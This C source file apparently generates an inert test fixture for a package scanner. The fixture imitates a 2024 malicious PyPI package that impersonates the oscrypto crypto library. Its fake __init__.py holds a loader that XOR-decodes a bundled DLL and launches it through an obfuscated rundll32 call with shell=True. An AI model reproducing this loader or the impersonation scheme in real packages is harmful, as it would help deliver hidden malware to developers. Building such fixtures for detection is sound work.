/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hostile_crypto - a copied crypto library with an executable inside.
 *
 * After the four packages of early 2024: another project's code, author and
 * home page; one module that is no Python but a Windows library behind a
 * one-byte XOR; an __init__ that can unpack and start it.  The executable
 * here has headers and no code.
 * Takes: a package.  Gives: its members.
 * Runs in: simindex.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "hostile.h"
#include "ordinary.h"

#define PAYLOAD_BYTES (350u * 1024)
#define PAYLOAD_KEY 0xe8

static void
put_le(unsigned char *at, unsigned long v, size_t n)
{
	for (size_t i = 0; i < n; i++)
		at[i] = (unsigned char)(v >> (8 * i));
}

/* The headers of a DLL of two sections; what they hold is noise. */
static void
pe_headers(unsigned char *pe)
{
	static const char	 note[] = "inert test fixture, no code inside";
	unsigned char		*coff = pe + 0x84, *opt = pe + 0x98;
	unsigned char		*section = opt + 240;

	memset(pe, 0, 0x400);
	memcpy(pe, "MZ", 2);
	put_le(pe + 0x3c, 0x80, 4);		/* e_lfanew */
	memcpy(pe + 0x40, note, sizeof(note));
	memcpy(pe + 0x80, "PE\0\0", 4);
	put_le(coff, 0x8664, 2);		/* x86-64 */
	put_le(coff + 2, 2, 2);			/* sections */
	put_le(coff + 16, 240, 2);		/* optional header's size */
	put_le(coff + 18, 0x2022, 2);		/* a DLL */
	put_le(opt, 0x20b, 2);			/* PE32+ */
	put_le(opt + 24, 0x180000000, 8);
	put_le(opt + 32, 0x1000, 4);
	put_le(opt + 36, 0x200, 4);
	put_le(opt + 56, 0x60000, 4);
	put_le(opt + 60, 0x400, 4);
	put_le(opt + 68, 2, 2);
	put_le(opt + 108, 16, 4);
	for (size_t i = 0; i < 2; i++, section += 40) {
		memcpy(section, i == 0 ? ".text" : ".rdata", 6);
		put_le(section + 8, PAYLOAD_BYTES / 2, 4);
		put_le(section + 12, 0x1000 + i * 0x30000, 4);
		put_le(section + 16, PAYLOAD_BYTES / 2 - 0x400, 4);
		put_le(section + 20, 0x400 + i * (PAYLOAD_BYTES / 2 - 0x400),
		    4);
	}
}

static void
payload(struct package *p, struct chance *c)
{
	unsigned char	*pe = must_alloc(PAYLOAD_BYTES);

	chance_fill(c, pe, PAYLOAD_BYTES);
	pe_headers(pe);
	for (size_t i = 0; i < PAYLOAD_BYTES; i++)
		pe[i] ^= PAYLOAD_KEY;
	package_add(p, IN_BOTH, "pycryptoenv/test.py", pe, PAYLOAD_BYTES);
	free(pe);
}

static const char init[] =
    "# coding: utf-8\n"
    INERT
    "from __future__ import unicode_literals, division, absolute_import\n"
    "\n"
    "import os\n"
    "import subprocess\n"
    "import sys\n"
    "\n"
    "from .version import __version__, __version_info__\n"
    "\n"
    "__all__ = ['__version__', '__version_info__', 'backend', 'load']\n"
    "\n"
    "_backend = 'openssl'\n"
    "\n"
    "\n"
    "def backend():\n"
    "    \"\"\"\n"
    "    :return: A unicode string of the backend in use\n"
    "    \"\"\"\n"
    "    return _backend\n"
    "\n"
    "\n"
    "def load(name, key1, key2, argument):\n"
    "    here = os.path.dirname(os.path.abspath(__file__))\n"
    "    source = os.path.join(here, 'test.py')\n"
    "    target = os.path.join(here, name + '.py')\n"
    "    with open(source, 'rb') as f, open(target, 'wb') as w:\n"
    "        while True:\n"
    "            byte = f.read(1)\n"
    "            if byte == b'':\n"
    "                break\n"
    "            w.write(bytes([byte[0] ^ key1]))\n"
    "    runner = bytes([c ^ key2 for c in "
    "b'\\x08\\x0f\\x14\\x1e\\x16\\x16\\x49\\x48'])\n"
    "    # decodes to rundll32\n"
    "    subprocess.run(runner.decode() + ' ' + target + "
    "', CalculateSum ' + argument, shell=True)\n"
    "    subprocess.run(\"rundll32 inert.py, CalculateSum 4906\", "
    "shell=True)\n";

/* The copied library: folders and module names of its family. */
static void
copied_library(struct package *p, struct chance *c)
{
	static const char *const folders[] = { "pycryptoenv/_linux_bsd",
	    "pycryptoenv/_mac", "pycryptoenv/_openssl", "pycryptoenv/_win" };
	static const char *const modules[] = { "_ffi", "_libcrypto",
	    "_libcrypto_cffi", "_libcrypto_ctypes", "_libssl", "asymmetric",
	    "symmetric", "tls", "trust_list", "util", "x509", "_errors",
	    "_types", "_rand", "_pkcs1", "_pkcs5", "_pkcs12", "_int",
	    "_cipher_suites", "_asn1" };
	char	file[64];

	for (size_t i = 0; i < 4; i++) {
		char	*path = must_format("%s/__init__.py", folders[i]);

		package_text(p, IN_BOTH, path, "# coding: utf-8\n");
		free(path);
		for (size_t j = 0; j < 20; j++) {
			snprintf(file, sizeof(file), "%s.py", modules[j]);
			ordinary_module(p, folders[i], file, c);
		}
	}
	package_text(p, IN_BOTH, "pycryptoenv/version.py",
	    "# coding: utf-8\n__version__ = '1.3.0'\n"
	    "__version_info__ = (1, 3, 0)\n");
	package_text(p, IN_BOTH, "pycryptoenv/keys.py",
	    "# coding: utf-8\nfrom ._asn1 import load\n");
	package_text(p, IN_BOTH, "pycryptoenv/errors.py",
	    "# coding: utf-8\n\n\nclass LibraryNotFoundError(Exception):\n"
	    "    pass\n");
}

void
hostile_pycryptoenv(struct package *p, struct chance *c)
{
	package_set(&p->summary, "TLS (SSL) sockets, key generation, "
	    "encryption, decryption, signing, verification and KDFs using "
	    "the OS crypto libraries.");
	package_set(&p->author, "wbond");
	package_set(&p->author_email, "will@oscrypto.example.invalid");
	package_set(&p->home_page, "https://github.com/wbond/oscrypto");
	package_set(&p->license, "MIT");
	package_set(&p->description, "oscrypto\n\nA compilation-free, "
	    "always up-to-date encryption library for Python that works on "
	    "Windows, OS X, Linux and BSD.\n\nDocs for latest release at "
	    "https://github.com/wbond/oscrypto\n");
	package_classifier(p, "Development Status :: 5 - Production/Stable");
	package_classifier(p, "License :: OSI Approved :: MIT License");
	package_classifier(p, "Topic :: Security :: Cryptography");
	package_text(p, IN_SDIST, "setup.py", INERT
	    "from setuptools import find_packages, setup\n\n"
	    "setup(\n    name='pycryptoenv',\n    version='1.0.7',\n"
	    "    author='wbond',\n    author_email='will@oscrypto.example.invalid',\n"
	    "    url='https://github.com/wbond/oscrypto',\n"
	    "    packages=find_packages(),\n)\n");
	package_text(p, IN_SDIST, "README.md", p->description);
	package_text(p, IN_BOTH, "pycryptoenv/__init__.py", init);
	copied_library(p, c);
	payload(p, c);
}
